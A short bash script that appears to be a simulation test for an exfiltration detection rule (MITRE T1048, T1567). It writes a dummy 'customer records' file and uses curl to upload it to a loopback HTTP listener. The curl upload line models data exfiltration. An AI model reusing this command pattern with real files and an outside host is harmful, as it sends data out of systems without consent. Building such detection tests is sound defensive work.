#!/usr/bin/env bash
# rule: exfiltration-curl-wget-file-upload
# mitre: T1048, T1567
# curl posts a scratch file to a loopback HTTP listener.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
echo "customer records" > loot.txt
listen --http
port=$LISTEN_PORT
"$(tool curl)" -s --max-time 5 --data-binary @loot.txt "http://127.0.0.1:$port/upload" > /dev/null
wait
